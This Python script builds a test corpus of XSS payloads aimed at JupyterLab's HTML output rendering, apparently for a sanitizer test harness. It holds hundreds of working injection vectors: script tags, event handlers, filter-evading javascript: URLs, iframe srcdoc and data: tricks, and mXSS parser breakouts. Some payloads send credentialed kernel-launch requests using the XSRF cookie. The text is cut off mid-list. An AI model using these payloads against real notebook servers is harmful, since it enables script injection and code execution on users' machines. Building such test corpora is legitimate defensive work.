#!/usr/bin/python3
"""Writes the attack corpus (corpus/attacks/<category>.jsonl) from the case tables below.

Run: /usr/bin/python3 corpus/attacks/build.py   (deterministic, no network)

Every payload tries to do something a browser harness can observe: call
top.__nbgPwn('<id>') (or parent./window.), show a dialog, send a credentialed
same-origin request to /api/..., open a kernel WebSocket, or navigate the top page.
Cases whose 'source' starts with 'NOT-RAW:' document a real vector that does not execute
in a JupyterLab 4 page by itself (other UIs, sanitizer round trips, other extensions).
"""
import base64
import json
import os
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))


def P(cid, via="top"):
    return "%s.__nbgPwn('%s')" % (via, cid)


class Cases:
    def __init__(self, category):
        self.category = category
        self.rows = []
        self.ids = set()

    def add(self, cid, source, data, metadata=None, widget=None):
        cid = "%s-%s" % (self.category, cid)
        assert cid not in self.ids, cid
        self.ids.add(cid)
        if callable(data):
            data = data(cid)
        if isinstance(data, str):
            data = {"text/html": data}
        if callable(metadata):
            metadata = metadata(cid)
        row = {"id": cid, "category": self.category, "source": source,
               "bundle": {"data": data, "metadata": metadata or {}}}
        if widget is not None:
            row["widget"] = widget(cid) if callable(widget) else widget
        self.rows.append(row)

    def write(self):
        path = os.path.join(HERE, self.category + ".jsonl")
        with open(path, "w", encoding="utf-8") as f:
            for r in self.rows:
                f.write(json.dumps(r, ensure_ascii=True) + "\n")
        return len(self.rows)


GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
XSRF = "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]"
CFG = "JSON.parse((document.getElementById('jupyter-config-data')||{textContent:'{}'}).textContent||'{}')"


def RT(rt_id):
    """Source prefix of the cases a red-team pass found (its case id, for traceability)."""
    return "nbguard red team, 2026-11 (%s): " % rt_id


def marker(tpl, via="top"):
    """A template whose {p} becomes the case's marker call; other braces are left alone."""
    return lambda i: tpl.replace("{p}", P(i, via))

# --------------------------------------------------------------------------------------
# html
# --------------------------------------------------------------------------------------
def html_cases():
    c = Cases("html")
    PS = "PortSwigger XSS cheat sheet: "
    # --- script tags (JupyterLab re-creates <script> in trusted HTML) ---
    c.add("script-basic-01", "JupyterLab evalInnerHTMLScriptTags: plain <script>",
          lambda i: "<script>%s</script>" % P(i))
    c.add("script-upper-01", "own: upper-case tag", lambda i: "<SCRIPT>%s</SCRIPT>" % P(i))
    c.add("script-mixed-case-01", "own: mixed-case tag", lambda i: "<ScRiPt>%s</sCrIpT>" % P(i))
    c.add("script-type-js-01", "own: type=text/javascript", lambda i: '<script type="text/javascript">%s</script>' % P(i))
    c.add("script-type-module-01", "own: type=module", lambda i: '<script type="module">%s</script>' % P(i))
    c.add("script-type-ecmascript-01", "own: type=application/ecmascript", lambda i: '<script type="application/ecmascript">%s</script>' % P(i))
    c.add("script-language-01", "own: language attribute", lambda i: '<script language="javascript">%s</script>' % P(i))
    c.add("script-src-data-01", "own: script src data: URL",
          lambda i: '<script src="data:text/javascript,%s"></script>' % urllib.parse.quote(P(i)))
    c.add("script-src-data-b64-01", "own: script src base64 data: URL",
          lambda i: '<script src="data:text/javascript;base64,%s"></script>' % base64.b64encode(P(i).encode()).decode())
    c.add("script-src-data-async-01", "own: async script with data: src",
          lambda i: '<script async src="data:,%s"></script>' % urllib.parse.quote(P(i)))
    c.add("script-in-table-01", "own: script inside table (foster parenting)",
          lambda i: "<table><tr><td>cell</td></tr><script>%s</script></table>" % P(i))
    c.add("script-after-text-01", "own: script after innocent markup",
          lambda i: "<h3>Results</h3><p>All tests passed.</p><script>%s</script>" % P(i))
    c.add("script-comment-in-01", "own: HTML comment markers inside script",
          lambda i: "<script><!--\n%s\n//--></script>" % P(i))
    c.add("script-slash-trick-01", "own: script with slash after tag name",
          lambda i: "<script/x>%s</script>" % P(i))
    c.add("script-nested-svg-01", "own: <script> inside inline <svg> (JupyterLab clones it as an HTML script)",
          lambda i: "<svg><script>%s</script></svg>" % P(i))
    c.add("script-unicode-escape-01", "own: unicode escapes in JS identifiers",
          lambda i: "<script>\\u0074op['\\x5f\\x5fnbgPwn']('%s')</script>" % i)
    c.add("script-eval-atob-01", "own: eval(atob())",
          lambda i: "<script>eval(atob('%s'))</script>" % base64.b64encode(P(i).encode()).decode())
    c.add("script-function-ctor-01", "own: Function constructor via [].constructor",
          lambda i: "<script>[].constructor.constructor(\"%s\")()</script>" % P(i))
    c.add("script-settimeout-string-01", "own: setTimeout with string",
          lambda i: "<script>setTimeout(\"%s\")</script>" % P(i))
    c.add("script-dynamic-import-01", "own: dynamic import of data: module",
          lambda i: "<script>import('data:text/javascript,'+encodeURIComponent(\"%s\"))</script>" % P(i))
    c.add("script-alert-01", "classic: <script>alert(1)", "<script>alert(1)</script>")
    c.add("script-confirm-01", "classic: confirm()", "<script>confirm(1)</script>")
    c.add("script-prompt-01", "classic: prompt()", "<script>prompt(1)</script>")
    c.add("script-top-location-01", "own: navigate the top page away",
          "<script>top.location='/pwned'</script>")
    c.add("script-parent-01", "own: parent reference", lambda i: "<script>%s</script>" % P(i, "parent"))
    c.add("script-window-01", "own: window reference", lambda i: "<script>%s</script>" % P(i, "window"))
    c.add("script-onerror-throw-01", PS + "onerror=alert;throw 1", "<script>{onerror=alert}throw 1</script>")
    c.add("script-bom-01", "own: BOM before script", lambda i: "\ufeff<script>%s</script>" % P(i))
    c.add("script-nul-prefix-01", "own: NUL character before the tag", lambda i: "\u0000<script>%s</script>" % P(i))
    c.add("script-createelement-01", "own: script that injects another script",
          lambda i: "<script>var s=document.createElement('script');s.text=\"%s\";document.body.appendChild(s)</script>" % P(i))

    # --- auto-firing event handlers ---
    auto = [
        ("img-onerror-01", PS + "img onerror", '<img src=x onerror="{p}">'),
        ("img-onerror-02", PS + "img onerror unquoted", "<img src=x onerror={p}>"),
        ("img-onerror-empty-src-01", "own: img with empty src", '<img src="" onerror="{p}">'),
        ("img-onerror-nosrc-value-01", "own: src attribute without value", '<img src onerror="{p}">'),
        ("img-onload-01", PS + "img onload (valid data: image)", '<img src="' + GIF + '" onload="{p}">'),
        ("img-srcset-onerror-01", "own: srcset", '<img srcset="x 1x, y 2x" onerror="{p}">'),
        ("picture-source-onerror-01", "own: picture/source", '<picture><source srcset="x"><img src="y" onerror="{p}"></picture>'),
        ("input-image-onerror-01", PS + "input type=image onerror", '<input type="image" src="x" onerror="{p}">'),
        ("svg-onload-01", "NOT-RAW: svg onload fires only when parsed with the document (nbconvert HTML export, nbviewer), not via innerHTML: " + PS + "svg onload", '<svg onload="{p}"></svg>'),
        ("svg-onload-slash-01", "NOT-RAW: as svg-onload-01: " + PS + "svg/onload", "<svg/onload={p}>"),
        ("svg-image-onerror-01", "own: svg image onerror", '<svg><image href="x" onerror="{p}"/></svg>'),
        ("svg-image-xlink-onerror-01", "own: svg image xlink:href onerror", '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="x" onerror="{p}"/></svg>'),
        ("iframe-onload-01", PS + "iframe onload", '<iframe onload="{p}"></iframe>'),
        ("iframe-src-onload-01", "own: iframe with src and onload", '<iframe src="about:blank" onload="{p}"></iframe>'),
        ("video-onerror-01", PS + "video onerror", '<video src="x" onerror="{p}"></video>'),
        ("video-source-onerror-01", PS + "video source onerror", '<video><source src="x" onerror="{p}"></video>'),
        ("audio-onerror-01", PS + "audio onerror", '<audio src="x" onerror="{p}"></audio>'),
        ("audio-source-onerror-01", "own: audio source onerror", '<audio><source src="x" onerror="{p}"></audio>'),
        ("video-onloadstart-01", PS + "video onloadstart", '<video src="x" onloadstart="{p}"></video>'),
        ("video-track-onerror-01", "own: track onerror", '<video src="x"><track default kind="subtitles" src="x" onerror="{p}"></video>'),
        ("object-onerror-01", "own: object onerror", '<object data="x" onerror="{p}"></object>'),
        ("link-onerror-01", "own: link rel=stylesheet onerror", '<link rel="stylesheet" href="x:x" onerror="{p}">'),
        ("link-onload-01", "own: link rel=stylesheet onload", '<link rel="stylesheet" href="data:text/css,b{{}}" onload="{p}">'),
        ("style-onload-01", PS + "style onload", '<style onload="{p}"></style>'),
        ("details-ontoggle-01", PS + "details open ontoggle", '<details open ontoggle="{p}"><summary>s</summary>x</details>'),
        ("details-ontoggle-02", "own: details ontoggle unquoted", "<details/open/ontoggle={p}>"),
        ("input-autofocus-onfocus-01", PS + "input autofocus onfocus", '<input autofocus onfocus="{p}">'),
        ("textarea-autofocus-onfocus-01", "own: textarea autofocus onfocus", '<textarea autofocus onfocus="{p}"></textarea>'),
        ("select-autofocus-onfocus-01", "own: select autofocus onfocus", '<select autofocus onfocus="{p}"><option>a</option></select>'),
        ("div-tabindex-onfocus-01", PS + "tabindex + onfocus", '<div tabindex="1" onfocus="{p}">focus me</div>'),
        ("div-contenteditable-onfocus-01", "own: contenteditable onfocus", '<div contenteditable onfocus="{p}">edit</div>'),
        ("a-onfocusin-01", "own: focusin on a link", '<a href="#x" onfocusin="{p}">link</a>'),
        ("anim-start-01", PS + "onanimationstart with inline keyframes",
         '<style>@keyframes nbgx{{from{{color:red}}to{{color:blue}}}}</style><div style="animation:nbgx 0.1s" onanimationstart="{p}">a</div>'),
        ("anim-end-01", "own: onanimationend",
         '<style>@keyframes nbgy{{from{{opacity:0}}to{{opacity:1}}}}</style><b style="animation:nbgy 0.05s" onanimationend="{p}">b</b>'),
        ("anim-iteration-01", "own: onanimationiteration",
         '<style>@keyframes nbgz{{to{{opacity:.5}}}}</style><i style="animation:nbgz 0.05s 3" onanimationiteration="{p}">i</i>'),
        ("anim-webkit-01", PS + "onwebkitanimationstart",
         '<style>@keyframes nbgw{{to{{opacity:.9}}}}</style><p style="animation-name:nbgw;animation-duration:0.1s" onwebkitanimationstart="{p}">w</p>'),
        ("anim-existing-keyframes-01", "own: animation with a keyframes name defined elsewhere on the page (spinner)",
         '<style>@keyframes nbgspin{{to{{transform:rotate(1turn)}}}}</style><span style="display:inline-block;animation:nbgspin 1s infinite" onanimationstart="{p}">*</span>'),
        ("content-visibility-01", PS + "oncontentvisibilityautostatechange",
         '<div style="content-visibility:auto" oncontentvisibilityautostatechange="{p}">x</div>'),
        ("svg-animate-onbegin-01", PS + "svg animate onbegin", '<svg><animate onbegin="{p}" attributeName="x" dur="1s"/></svg>'),
        ("svg-set-onbegin-01", PS + "svg set onbegin", '<svg><set onbegin="{p}" attributeName="x" to="1"/></svg>'),
        ("svg-animatetransform-onbegin-01", "own: animateTransform onbegin", '<svg><animateTransform onbegin="{p}" attributeName="transform" type="rotate" from="0" to="1" dur="1s"/></svg>'),
        ("svg-animatemotion-onbegin-01", "own: animateMotion onbegin", '<svg><animateMotion onbegin="{p}" path="M0,0 L1,1" dur="1s"/></svg>'),
        ("svg-discard-onbegin-01", "NOT-RAW in current Chromium: " + PS + "svg discard onbegin", '<svg><discard onbegin="{p}"/></svg>'),
        ("svg-animate-onend-01", "own: svg animate onend", '<svg><animate onend="{p}" attributeName="x" dur="0.05s"/></svg>'),
        ("svg-animate-onrepeat-01", "own: svg animate onrepeat", '<svg><animate onrepeat="{p}" attributeName="x" dur="0.05s" repeatCount="3"/></svg>'),
        ("svg-anim-css-01", "own: CSS animation event on an SVG element",
         '<svg><style>@keyframes nbgs{{to{{opacity:.5}}}}</style><rect width="10" height="10" style="animation:nbgs 0.1s" onanimationstart="{p}"/></svg>'),
        ("scroll-focus-01", "own: onscroll fired when focusing scrolls a container",
         '<div style="height:30px;overflow:auto" onscroll="{p}"><div style="height:300px"></div><input id="nbg-scroll-target"></div>'),
        ("marquee-onstart-01", "NOT-RAW in current Chromium (Firefox only): " + PS + "marquee onstart", '<marquee onstart="{p}">m</marquee>'),
        ("body-onload-in-svg-foreign-01", "own: foreignObject body onload", '<svg><foreignObject><iframe onload="{p}"></iframe></foreignObject></svg>'),
        ("img-onerror-alert-01", "classic: img onerror alert", "<img src=x onerror=alert(1)>"),
        ("img-onerror-fetch-01", "own: onerror doing a credentialed API request",
         '<img src=x onerror="fetch(\'/api/kernels\',{{method:\'POST\',credentials:\'same-origin\',headers:{{\'X-XSRFToken\':' + XSRF.replace("'", "\\'") + '}}}})">'),
        ("img-onerror-location-01", "own: navigate top away from onerror", "<img src=x onerror=\"top.location='/pwned'\">"),
        ("img-onerror-import-01", "own: import() of a data: module from onerror",
         '<img src=x onerror="import(\'data:text/javascript,\'+encodeURIComponent(&quot;{p}&quot;))">'),
    ]
    for cid, src, tpl in auto:
        c.add(cid, src, (lambda t: lambda i: t.format(p=P(i)))(tpl))

    # --- gesture-triggered handlers (harness hovers, focuses, clicks) ---
    gest = [
        ("hover-onmouseover-01", PS + "onmouseover", '<div onmouseover="{p}" style="padding:10px">hover</div>'),
        ("hover-onmouseenter-01", "own: onmouseenter", '<span onmouseenter="{p}">hover</span>'),
        ("hover-onpointerenter-01", PS + "onpointerenter", '<p onpointerenter="{p}">hover</p>'),
        ("hover-onpointerover-01", "own: onpointerover", '<b onpointerover="{p}">hover</b>'),
        ("hover-onmousemove-01", "own: onmousemove", '<h4 onmousemove="{p}">hover</h4>'),
        ("hover-onpointermove-01", "own: onpointermove", '<em onpointermove="{p}">hover</em>'),
        ("hover-onpointerrawupdate-01", PS + "onpointerrawupdate", '<u onpointerrawupdate="{p}">hover</u>'),
        ("hover-onmouseleave-01", "own: onmouseleave", '<div onmouseleave="{p}">leave</div><div>next</div>'),
        ("hover-onmouseout-01", "own: onmouseout", '<div onmouseout="{p}">out</div><div>next</div>'),
        ("hover-table-cell-01", "own: handler on a td inside a data table", '<table><tr><th>a</th></tr><tr><td onmouseover="{p}">1</td></tr></table>'),
        ("hover-transition-01", "own: ontransitionend triggered by :hover",
         '<style>.nbgt:hover{{color:red}}</style><div class="nbgt" style="transition:color 0.01s" ontransitionend="{p}">t</div>'),
        ("hover-svg-rect-01", "own: svg rect onmouseover", '<svg width="50" height="50"><rect width="50" height="50" onmouseover="{p}"/></svg>'),
        ("hover-huge-overlay-01", PS + "full-page invisible overlay onmouseover",
         '<div style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:9999" onmouseover="{p}"></div>'),
        ("click-button-onclick-01", "own: button onclick", '<button onclick="{p}">Run</button>'),
        ("click-a-onclick-01", "own: link onclick", '<a href="#" onclick="{p}">click</a>'),
        ("click-onmousedown-01", "own: onmousedown on a button", '<button onmousedown="{p}">b</button>'),
        ("click-onpointerup-01", "own: onpointerup on a link", '<a href="#" onpointerup="{p}">x</a>'),
        ("click-checkbox-onchange-01", "own: checkbox onchange", '<input type="checkbox" onchange="{p}">'),
        ("click-checkbox-oninput-01", "own: checkbox oninput", '<input type="checkbox" oninput="{p}">'),
        ("click-summary-ontoggle-01", "own: closed details toggled by clicking summary", '<details ontoggle="{p}"><summary>more</summary>x</details>'),
        ("click-form-onsubmit-01", "own: form onsubmit", '<form onsubmit="{p};return false"><button>Send</button></form>'),
        ("click-form-onreset-01", "own: form onreset", '<form onreset="{p}"><button type="reset">Reset</button></form>'),
        ("click-form-oninvalid-01", "own: oninvalid on a required field", '<form><input required oninvalid="{p}"><button>Go</button></form>'),
        ("click-form-onformdata-01", "own: form onformdata", '<form onformdata="{p}" target="nbgsink2"><input name="a"><button>Go</button></form><iframe name="nbgsink2" style="display:none"></iframe>'),
        ("click-popover-beforetoggle-01", PS + "popover onbeforetoggle", '<button popovertarget="nbgpop">open</button><div popover id="nbgpop" onbeforetoggle="{p}">p</div>'),
        ("click-popover-toggle-01", "own: popover ontoggle", '<button popovertarget="nbgpop2">open</button><div popover id="nbgpop2" ontoggle="{p}">p</div>'),
        ("focus-onblur-01", "own: onblur (focus moves on)", '<input onblur="{p}"><input>'),
        ("focus-button-onfocus-01", "own: button onfocus", '<button onfocus="{p}">f</button>'),
        ("click-label-for-01", "own: label for a hidden checkbox", '<label for="nbgchk">label</label><input id="nbgchk" type="checkbox" onclick="{p}">'),
        ("click-label-onpointerdown-01", "own: onpointerdown on a label", '<label onpointerdown="{p}">press</label>'),
    ]
    for cid, src, tpl in gest:
        c.add(cid, src, (lambda t: lambda i: t.format(p=P(i)))(tpl))

    # --- javascript: URLs ---
    def js(i):
        return "javascript:" + P(i)
    c.add("jsurl-iframe-src-01", PS + "iframe src javascript:", lambda i: '<iframe src="%s"></iframe>' % js(i))
    c.add("jsurl-iframe-src-string-doc-01", "own: javascript: URL whose string result becomes the frame document",
          lambda i: "<iframe src=\"javascript:'&lt;img src=x onerror=%s&gt;'\"></iframe>" % P(i).replace("'", "&quot;").replace("top.", "parent."))
    c.add("jsurl-a-target-self-01", "own: a href javascript: with target=_self (JupyterLab only forces _blank when target is empty)",
          lambda i: '<a href="%s" target="_self">click</a>' % js(i))
    c.add("jsurl-a-target-top-01", "own: target=_top", lambda i: '<a href="%s" target="_top">click</a>' % js(i))
    c.add("jsurl-a-target-parent-01", "own: target=_parent", lambda i: '<a href="%s" target="_parent">click</a>' % js(i))
    c.add("jsurl-a-blank-01", "NOT-RAW: a href javascript: (JupyterLab sets target=_blank; executes in classic Notebook / nbviewer / exported HTML)",
          lambda i: '<a href="%s">click</a>' % js(i))
    c.add("jsurl-area-01", PS + "area href javascript: in an image map",
          lambda i: '<img src="%s" usemap="#nbgm" width="60" height="60"><map name="nbgm"><area shape="rect" coords="0,0,60,60" href="%s"></map>' % (GIF, js(i)))
    c.add("jsurl-form-action-01", "CVE-2021-32797/32798 shape: form action javascript:",
          lambda i: '<form action="%s"><input type="submit" value="Submit"></form>' % js(i))
    c.add("jsurl-button-formaction-01", "CVE-2021-32797/32798 shape: button formaction javascript:",
          lambda i: '<form><button formaction="%s">Click</button></form>' % js(i))
    c.add("jsurl-input-formaction-01", PS + "input type=submit formaction",
          lambda i: '<form><input type="submit" formaction="%s" value="go"></form>' % js(i))
    c.add("jsurl-input-image-formaction-01", "own: input type=image formaction",
          lambda i: '<form><input type="image" src="%s" formaction="%s"></form>' % (GIF, js(i)))
    c.add("jsurl-button-form-attr-01", "own: button outside the form, associated by form=",
          lambda i: '<form id="nbgf1"></form><button form="nbgf1" formaction="%s">go</button>' % js(i))
    c.add("jsurl-form-action-post-01", "own: form method=post action javascript:",
          lambda i: '<form method="post" action="%s"><button>go</button></form>' % js(i))
    c.add("jsurl-object-data-01", "NOT-RAW in Chromium (old browsers): object data javascript:", lambda i: '<object data="%s"></object>' % js(i))
    c.add("jsurl-embed-src-01", "NOT-RAW in Chromium (old browsers): embed src javascript:", lambda i: '<embed src="%s">' % js(i))
    c.add("jsurl-svg-a-xlink-01", PS + "svg a xlink:href javascript: (JupyterLab skips SVG anchors)",
          lambda i: '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="30"><a xlink:href="%s"><text x="5" y="20">click</text></a></svg>' % js(i))
    c.add("jsurl-svg-a-href-01", "own: svg a href javascript:",
          lambda i: '<svg width="100" height="30"><a href="%s"><rect width="100" height="30"/></a></svg>' % js(i))
    c.add("jsurl-svg-animate-href-01", PS + "svg animate values on href",
          lambda i: '<svg width="100" height="30"><a><animate attributeName="href" values="%s"/><text x="5" y="20">click</text></a></svg>' % js(i))
    c.add("jsurl-svg-set-href-01", PS + "svg set to on href",
          lambda i: '<svg width="100" height="30"><a><set attributeName="href" to="%s"/><text x="5" y="20">click</text></a></svg>' % js(i))
    c.add("jsurl-svg-animate-xlink-01", "own: animate attributeName=xlink:href",
          lambda i: '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="30"><a xlink:href="#"><animate attributeName="xlink:href" from="#" to="%s" dur="0.01s" fill="freeze"/><rect width="100" height="30"/></a></svg>' % js(i))
    c.add("jsurl-math-href-01", "NOT-RAW: MathML href (Firefox only)",
          lambda i: '<math href="%s"><mtext>click</mtext></math>' % js(i))
    c.add("jsurl-base-href-01", "NOT-RAW: base href javascript: (Chromium ignores javascript: base URLs)",
          lambda i: '<base href="%s//"><p>text</p>' % js(i))
    c.add("jsurl-meta-refresh-01", "NOT-RAW: meta refresh to javascript: (blocked by Chromium; old browsers)",
          lambda i: '<meta http-equiv="refresh" content="0;url=%s">' % js(i))
    c.add("meta-refresh-navigate-01", "own: meta refresh navigating the page away",
          '<meta http-equiv="refresh" content="0;url=/pwned">')
    c.add("jsurl-iframe-percent-01", "own: percent-encoding inside javascript: URL",
          lambda i: '<iframe src="javascript:%%74op.__nbgPwn(%%27%s%%27)"></iframe>' % i)
    c.add("jsurl-iframe-comment-newline-01", "own: javascript://comment%0a",
          lambda i: '<iframe src="javascript://nbguard%%0a%s"></iframe>' % P(i))

    # obfuscated javascript: on iframe src (auto) and on a target=_self link (click)
    obf = [
        ("upper", "upper case scheme", "JAVASCRIPT:"),
        ("mixed", "mixed case scheme", "JaVaScRiPt:"),
        ("entity-dec", "decimal entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"),
        ("entity-dec-nosemi", "decimal entities without semicolons, zero padded",
         "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"),
        ("entity-hex", "hex entities", "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;"),
        ("entity-hex-nosemi", "hex entities without semicolons", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"),
        ("tab", "tab inside scheme", "java\tscript:"),
        ("newline", "newline inside scheme", "java\nscript:"),
        ("cr", "carriage return inside scheme", "jav\rascript:"),
        ("entity-tab", "&Tab; inside scheme", "java&Tab;script:"),
        ("entity-newline", "&NewLine; inside scheme", "java&NewLine;script:"),
        ("entity-hex-tab", "&#x09; inside scheme", "jav&#x09;ascript:"),
        ("colon-entity", "&colon;", "javascript&colon;"),
        ("leading-space", "leading spaces", "   javascript:"),
        ("leading-control", "leading control character U+0001", "\u0001javascript:"),
        ("leading-entity-control", "leading &#14; control character", "&#14;javascript:"),
        ("leading-nbsp-entity", "leading &#32; entity", "&#32;javascript:"),
    ]
    # JupyterLab's URL resolver (handleUrls) takes src/href values that do not start with their
    # parsed scheme (whitespace or controls in or before "javascript:") for local paths and
    # rewrites them: inert in JupyterLab, but they execute in classic Notebook, nbviewer, exports.
    resolver_defused = ("tab", "newline", "cr", "entity-tab", "entity-newline", "entity-hex-tab",
                        "leading-space", "leading-control", "leading-entity-control", "leading-nbsp-entity")
    jl_note = "NOT-RAW in JupyterLab (its URL resolver rewrites it as a local path); executes in classic Notebook / plain innerHTML: "
    for name, desc, scheme in obf:
        pre = jl_note if name in resolver_defused else ""
        c.add("jsurl-obf-iframe-%s-01" % name, pre + "OWASP filter evasion: %s (iframe src)" % desc,
              (lambda s: lambda i: '<iframe src="%s%s"></iframe>' % (s, P(i)))(scheme))
    for name, desc, scheme in obf[:12]:
        pre = jl_note if name in resolver_defused else ""
        c.add("jsurl-obf-link-%s-01" % name, pre + "OWASP filter evasion: %s (a target=_self, click)" % desc,
              (lambda s: lambda i: '<a target="_self" href="%s%s">click</a>' % (s, P(i)))(scheme))
    for name, desc, scheme in obf:
        c.add("jsurl-obf-form-%s-01" % name, "OWASP filter evasion: %s (form action, click; not rewritten by JupyterLab)" % desc,
              (lambda s: lambda i: '<form action="%s%s"><button>go</button></form>' % (s, P(i)))(scheme))
    for name, desc, scheme in obf[6:12]:
        c.add("jsurl-obf-svg-a-%s-01" % name, "OWASP filter evasion: %s (svg a href, click)" % desc,
              (lambda s: lambda i: '<svg width="100" height="30"><a href="%s%s"><rect width="100" height="30"/></a></svg>' % (s, P(i)))(scheme))
    c.add("jsurl-obf-formaction-entity-01", "own: entity-encoded formaction",
          lambda i: '<form><button formaction="&#x6A;avascript&colon;%s">go</button></form>' % P(i))

    # --- iframes: srcdoc and data: ---
    c.add("srcdoc-script-01", PS + "iframe srcdoc with script",
          lambda i: '<iframe srcdoc="&lt;script&gt;%s&lt;/script&gt;"></iframe>' % P(i))
    c.add("srcdoc-img-01", "own: srcdoc with img onerror",
          lambda i: '<iframe srcdoc="&lt;img src=x onerror=&quot;%s&quot;&gt;"></iframe>' % P(i))
    c.add("srcdoc-entity-mix-01", "own: srcdoc with numeric entities",
          lambda i: '<iframe srcdoc="&#60;script&#62;%s&#60;/script&#62;"></iframe>' % P(i))
    c.add("srcdoc-nested-01", "own: srcdoc nested in srcdoc",
          lambda i: '<iframe srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;%s&amp;lt;/script&amp;gt;&quot;&gt;&lt;/iframe&gt;"></iframe>'
          % P(i, "top"))
    c.add("srcdoc-sandbox-same-origin-01", "own: sandbox with allow-scripts allow-same-origin (no protection)",
          lambda i: '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="&lt;script&gt;%s&lt;/script&gt;"></iframe>' % P(i))
    c.add("srcdoc-sandbox-modals-01", "own: sandbox allow-scripts allow-modals (dialogs from an opaque origin)",
          '<iframe sandbox="allow-scripts allow-modals" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>')
    c.add("srcdoc-top-nav-01", "own: sandbox allow-scripts allow-top-navigation (navigate the page away)",
          '<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="&lt;script&gt;top.location=&#39;/pwned&#39;&lt;/script&gt;"></iframe>')
    c.add("srcdoc-fetch-01", "own: srcdoc (same origin) making a credentialed API request",
          '<iframe srcdoc="&lt;script&gt;fetch(&#39;/api/kernels&#39;,{method:&#39;POST&#39;,headers:{&#39;X-XSRFToken&#39;:(parent.document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}})&lt;/script&gt;"></iframe>')
    c.add("data-iframe-alert-01", PS + "iframe src data:text/html (opaque origin; dialog)",
          '<iframe src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>')
    c.add("data-iframe-b64-01", "own: iframe src data:text/html;base64",
          '<iframe src="data:text/html;base64,%s"></iframe>' % base64.b64encode(b"<script>alert(1)</script>").decode())
    c.add("data-iframe-svg-01", "own: iframe src data:image/svg+xml with script",
          '<iframe src="data:image/svg+xml;base64,%s"></iframe>' % base64.b64encode(
              b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode())
    c.add("data-object-01", "own: object data:text/html",
          '<object data="data:text/html;base64,%s"></object>' % base64.b64encode(b"<script>alert(1)</script>").decode())
    c.add("data-embed-01", "own: embed data:text/html",
          '<embed src="data:text/html;base64,%s">' % base64.b64encode(b"<script>alert(1)</script>").decode())
    c.add("data-object-svg-01", "own: object with data:image/svg+xml script",
          '<object type="image/svg+xml" data="data:image/svg+xml;base64,%s"></object>' % base64.b64encode(
              b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>').decode())
    c.add("data-iframe-upper-01", "own: DATA:TEXT/HTML upper case",
          '<iframe src="DATA:TEXT/HTML,&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>')
    c.add("blob-iframe-01", "own: script building a blob: iframe (same origin)",
          lambda i: "<script>var u=URL.createObjectURL(new Blob(['<script>%s<\\/script>'],{type:'text/html'}));var f=document.createElement('iframe');f.src=u;document.body.appendChild(f)</script>" % P(i).replace("'", "\\'"))
    c.add("frame-document-write-01", "own: document.write into a same-origin about:blank iframe",
          lambda i: "<iframe id=\"nbgw\"></iframe><script>document.getElementById('nbgw').contentDocument.write('<img src=x onerror=%s>')</script>" % P(i).replace("'", "\\'"))

    # --- parser tricks ---
    pt = [
        ("parser-noscript-01", "mXSS classic: noscript title breakout", '<noscript><p title="</noscript><img src=x onerror={q}>"></noscript>'),
        ("parser-xmp-01", "own: xmp raw text breakout", '<xmp><p title="</xmp><img src=x onerror={q}>"></xmp>'),
        ("parser-noembed-01", "own: noembed raw text breakout", '<noembed><p title="</noembed><img src=x onerror={q}>"></noembed>'),
        ("parser-noframes-01", "own: noframes raw text breakout", '<noframes><p title="</noframes><img src=x onerror={q}>"></noframes>'),
        ("parser-textarea-01", "own: textarea RCDATA breakout", '<textarea><p title="</textarea><img src=x onerror={q}>"></textarea>'),
        ("parser-title-01", "own: title RCDATA breakout", '<title><p title="</title><img src=x onerror={q}>"></title>'),
        ("parser-style-01", "own: style raw text breakout", '<style><p title="</style><img src=x onerror={q}>"></style>'),
        ("parser-iframe-content-01", "own: iframe raw text breakout", '<iframe><p title="</iframe><img src=x onerror={q}>"></iframe>'),
        ("parser-svg-p-break-01", "mXSS: </p> inside svg leaves foreign content", '<svg></p><style><a id="</style><img src=1 onerror={q}>"></svg>'),
        ("parser-svg-br-break-01", "mXSS: </br> inside math leaves foreign content", '<math></br><style><b title="</style><img src=1 onerror={q}>"></math>'),
        ("parser-svg-style-img-01", "mXSS: svg style element is not raw text, img inside it is parsed", '<svg><style><img src=x onerror={q}></style></svg>'),
        ("parser-math-style-img-01", "own: math style element is not raw text", '<math><style><img src=x onerror={q}></style></math>'),
        ("parser-svg-html-breakout-01", "own: HTML start tag (img) breaks out of svg", '<svg><desc><img src=x onerror={q}></desc></svg>'),
        ("parser-math-mtext-01", "own: HTML inside MathML text integration point", '<math><mtext><img src=x onerror={q}></mtext></math>'),
        ("parser-svg-foreignobject-01", "own: foreignObject HTML integration point", '<svg><foreignObject><img src=x onerror={q}></foreignObject></svg>'),
        ("parser-select-01", "own: img inside select", '<select><img src=x onerror={q}></select>'),
        ("parser-table-foster-01", "own: foster-parented img inside table", '<table><img src=x onerror={q}><tr><td>x</td></tr></table>'),
        ("parser-comment-01", "comment trick: attribute-looking comment", '<!--<img src="--><img src=x onerror={q}>">'),
        ("parser-comment-bang-01", "comment trick: --!> closes a comment", '<!-- x --!><img src=x onerror={q}>'),
        ("parser-comment-short-01", "comment trick: <!--> empty comment", '<!--><img src=x onerror={q}>-->'),
        ("parser-pi-01", "bogus comment: processing instruction ends at first >", '<? x="><img src=x onerror={q}>">'),
